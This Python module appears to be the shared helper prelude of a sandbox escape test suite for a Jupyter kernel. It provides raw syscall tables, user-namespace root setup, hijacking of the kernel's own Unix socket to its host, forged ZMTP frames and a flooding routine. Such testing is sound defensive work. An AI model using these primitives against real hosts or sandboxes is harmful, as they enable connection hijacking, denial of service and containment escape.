"""What every attack may use; sent to the kernel before the first one. Standard library only."""
# ruff: noqa: F401 - modules are imported for the attacks

import contextlib
import ctypes
import fcntl
import glob
import hashlib
import json
import os
import pickle
import platform
import signal
import socket
import struct
import subprocess
import sys
import termios
import time
from pathlib import Path
from types import SimpleNamespace

# Numbers of system calls: arch/x86/entry/syscalls/syscall_64.tbl and
# include/uapi/asm-generic/unistd.h (aarch64).
_X86 = {
    "mount": 165, "chroot": 161, "pivot_root": 155, "unshare": 272, "setns": 308, "clone": 56,
    "ptrace": 101, "process_vm_readv": 310, "process_vm_writev": 311, "keyctl": 250,
    "add_key": 248, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323,
    "open_by_handle_at": 304, "name_to_handle_at": 303, "personality": 135, "openat": 257,
    "syslog": 103, "fanotify_init": 300, "fanotify_mark": 301, "memfd_create": 319,
    "shmget": 29, "shmat": 30, "msgget": 68, "msgrcv": 70, "mq_open": 240, "mq_timedreceive": 243,
    "semget": 64, "semctl": 66, "capset": 126, "modify_ldt": 154, "iopl": 172,
    "init_module": 175, "kcmp": 312, "inotify_add_watch": 254, "truncate": 76, "setrlimit": 160,
    "io_setup": 206, "ioprio_set": 251, "semop": 65, "timer_create": 222,
}  # fmt: skip
_ARM = {
    "mount": 40, "chroot": 51, "pivot_root": 41, "unshare": 97, "setns": 268, "clone": 220,
    "ptrace": 117, "process_vm_readv": 270, "process_vm_writev": 271, "keyctl": 219,
    "add_key": 217, "bpf": 280, "perf_event_open": 241, "userfaultfd": 282,
    "open_by_handle_at": 265, "name_to_handle_at": 264, "personality": 92, "openat": 56,
    "syslog": 116, "fanotify_init": 262, "fanotify_mark": 263, "memfd_create": 279,
    "shmget": 194, "shmat": 196, "msgget": 186, "msgrcv": 188, "mq_open": 180,
    "mq_timedreceive": 183, "semget": 190, "semctl": 191, "capset": 91, "init_module": 105,
    "kcmp": 272, "inotify_add_watch": 27, "truncate": 45,
    "io_setup": 0, "ioprio_set": 30, "semop": 193, "timer_create": 107,
}  # fmt: skip
_BOTH = {
    "io_uring_setup": 425, "io_uring_enter": 426, "io_uring_register": 427, "open_tree": 428,
    "move_mount": 429, "fsopen": 430, "fsconfig": 431, "fsmount": 432, "pidfd_open": 434,
    "clone3": 435, "pidfd_getfd": 438, "process_madvise": 440, "fchmodat2": 452,
    "pidfd_send_signal": 424,
}  # fmt: skip
NUMBERS = {**(_ARM if platform.machine() == "aarch64" else _X86), **_BOTH}

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
kept: list[int] = []  # descriptors that stay open until the host has looked

CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWPID = (
    0x00020000, 0x10000000, 0x40000000, 0x20000000,
)  # fmt: skip


def call(name, *args):
    """Make a system call; raise OSError as the kernel answers."""
    passed = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = libc.syscall(NUMBERS[name], *passed)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, f"{name}: {os.strerror(number)}")
    return result


def keep(descriptor):
    """Leave a descriptor open for the host to see."""
    kept.append(descriptor)
    return f"descriptor {descriptor}"


def stay(action):
    """Do something in a child that then stays until the host has looked; return its answer."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        try:
            os.write(write, f"ok {action()}".encode()[:4000])
        except BaseException as error:  # told to the parent
            os.write(write, f"no {type(error).__name__}: {error}".encode()[:4000])
        os.close(write)
        time.sleep(20)
        os._exit(0)
    os.close(write)
    answer = b""
    while part := os.read(read, 4096):
        answer += part
    os.close(read)
    staying.append(pid)
    if answer.startswith(b"ok"):
        return answer[3:].decode()
    raise OSError(1, answer.decode())


staying: list[int] = []


def socket_path(channel):
    """Return the path of one of this kernel's own sockets."""
    app = get_ipython().kernel.parent  # noqa: F821 - IPython's
    return f"{app.ip}-{getattr(app, channel + '_port')}"


def connection_of(channel):
    """Return the connection to the host on one of this kernel's own sockets."""
    path = socket_path(channel)
    for number in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            own = socket.socket(fileno=os.dup(int(number)))
            listens = own.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
            if own.family == socket.AF_UNIX and own.getsockname() == path and not listens:
                return own
    raise FileNotFoundError(2, f"no connection on {channel}")


def another_peer(channel):
    """Listen in the place of an own socket, end the connection, and return who comes back."""
    path, old = socket_path(channel), connection_of(channel)
    os.unlink(path)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    listener.listen(8)
    listener.settimeout(3)
    old.shutdown(socket.SHUT_RDWR)
    peer, _ = listener.accept()
    return peer


def zmtp_greeting():
    """Return what a ZMTP peer says first."""
    return b"\xff" + bytes(8) + b"\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32)


def zmtp_frame(body, flags=1):
    """Return a frame; by default one after which the message goes on."""
    if len(body) < 256:
        return bytes([flags, len(body)]) + body
    return bytes([flags | 2]) + struct.pack(">Q", len(body)) + body


def send_endlessly(peer, data, first=b"", most_mb=1200):
    """Send the same again and again, for as long as it is taken and within 15 s."""
    import select

    until, sent, left = time.monotonic() + 15, 0, first + data
    while time.monotonic() < until and sent < most_mb << 20:
        if select.select([], [peer], [], 0.5)[1]:
            with contextlib.suppress(BlockingIOError):
                count = peer.send(left)
                sent, left = sent + count, left[count:] or data
    return f"{sent >> 20} MB went through"


def tidy():
    """End what the attack before left for the host to see."""
    while kept:
        with contextlib.suppress(OSError):
            os.close(kept.pop())
    while staying:
        pid = staying.pop()
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)


def in_user_namespace(flags=0):
    """Become root of a new user namespace (and of the namespaces in ``flags``)."""
    uid, gid = os.getuid(), os.getgid()
    call("unshare", CLONE_NEWUSER | flags)
    with contextlib.suppress(OSError):
        Path("/proc/self/setgroups").write_text("deny")
        Path("/proc/self/uid_map").write_text(f"0 {uid} 1")
        Path("/proc/self/gid_map").write_text(f"0 {gid} 1")


def attempt(function, canaries):
    """Run one attack and report to the host how it ended."""
    tidy()
    report = {"ended": "returned", "text": ""}
    try:
        value = function(SimpleNamespace(**json.loads(canaries)))
        report["text"] = (
            value.decode(errors="replace") if isinstance(value, bytes) else str(value or "")
        )
    except (OSError, subprocess.SubprocessError, MemoryError, EOFError) as error:
        report = {"ended": "refused", "text": f"{type(error).__name__}: {error}"}
    except KeyboardInterrupt:
        report = {"ended": "timeout", "text": ""}
    except BaseException as error:  # the host is to know of a broken attack
        report = {"ended": "crashed", "text": f"{type(error).__name__}: {error}"}
    report["text"] = report["text"][:60_000]
    reports[:] = [report]
    tell()


reports: list[dict[str, str]] = []


def tell():
    """Print the latest report; asked for again by the host when an attack drowned the first."""
    for report in reports:
        print("\nREPORT:" + json.dumps(report), flush=True)
